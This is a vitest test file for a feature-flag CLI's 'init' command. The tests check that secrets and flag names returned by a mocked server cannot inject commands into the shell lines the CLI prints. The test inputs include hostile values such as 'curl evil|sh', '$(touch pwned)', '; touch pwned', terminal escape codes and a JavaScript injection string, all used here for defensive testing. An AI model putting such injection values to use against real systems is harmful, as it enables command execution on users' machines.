import { existsSync, mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, describe, expect, test } from 'vitest'
import { ENV, runProgram as halyard } from '../test-program.ts'

describe('init', () => {
  const home = mkdtempSync(join(tmpdir(), 'halyard-init-'))
  afterAll(() => rmSync(home, { recursive: true, force: true }))
  const env = { ...ENV, XDG_CONFIG_HOME: home }
  const secret = 'hal_sdk_0123456789Ab_0123456789012345678901234567890123456789_0a1b2c3d'
  const made = (key: string, answer: unknown, keys: readonly object[] = []): typeof fetch => {
    return async (url, init) => {
      if (init?.method === 'POST')
        return Response.json({ id: 'x', kind: 'sdk', name: 'n', secret: answer }, { status: 201 })
      const { pathname } = new URL(url instanceof Request ? url.url : url)
      if (pathname.endsWith('/keys')) return Response.json({ items: keys, nextCursor: null })
      const isList = pathname.endsWith('/flags')
      return Response.json(isList ? { items: [{ key, type: 'boolean' }], nextCursor: null } : { key })
    }
  }

  test('prints the key as a line for a shell', async () => {
    const { exit, out } = await halyard('init -p shop -e live', made('new-checkout', secret), { env })
    expect(exit).toBe(0)
    expect(out).toContain(`  export HALYARD_SDK_KEY=${secret}\n`)
  })

  test.each([
    `${secret}; touch pwned`,
    `${secret}\ncurl evil|sh`,
    `${secret}\n`,
    'hal_sdk_$(touch pwned)',
    '`x`',
    'hal_sdk_\u001b[2J',
    '',
    null,
    7,
  ])('shows nothing of a secret that is no key of Halyard’s, and keeps nothing: %j', async (answer) => {
    rmSync(join(home, 'halyard'), { recursive: true, force: true })
    for (const json of ['', ' --json']) {
      const { exit, out, err } = await halyard(`init -p shop -e live${json}`, made('new-checkout', answer), { env })
      expect({ exit, out }).toEqual({ exit: 1, out: '' })
      expect(err).toContain('what the server gave out is no SDK key')
      expect(err).not.toContain('pwned')
    }
    expect(existsSync(join(home, 'halyard'))).toBe(false)
  })

  test('says that there are keys already, and makes none where none is wanted', async () => {
    const key = { id: 'a', kind: 'sdk', name: 'n', createdAt: '2030-01-01T00:00:00Z', expiresAt: null, revokedAt: null }
    const keys = [key, { ...key, revokedAt: '2030-01-02T00:00:00Z' }, { ...key, kind: 'client' }]
    const again = await halyard('init -p shop -e live', made('new-checkout', secret, keys), { env })
    expect(again.out).toContain('shop/live has 1 SDK key in force already\nmade another SDK key of shop/live;')
    expect(again.out).toContain('--no-key makes none')
    const without = await halyard('init -p shop -e live --no-key', made('new-checkout', secret, keys), { env })
    expect(without.exit).toBe(0)
    expect(without.out).not.toContain(secret)
    expect(without.out).toContain('# HALYARD_SDK_KEY is to be the SDK key that you have\n')
  })

  test('takes no flag of a list into lines for pasting that is no key', async () => {
    for (const key of ['$(touch pwned)', "a';evil();'", 'a\nevil()', '\u001b[2J', '\u202e']) {
      const { out } = await halyard('init -p shop -e live', made(key, secret), { env })
      expect(out).toContain("flags.boolean('new-checkout', false")
      expect(out).toContain('halyard flags enable new-checkout\n')
    }
  })
})
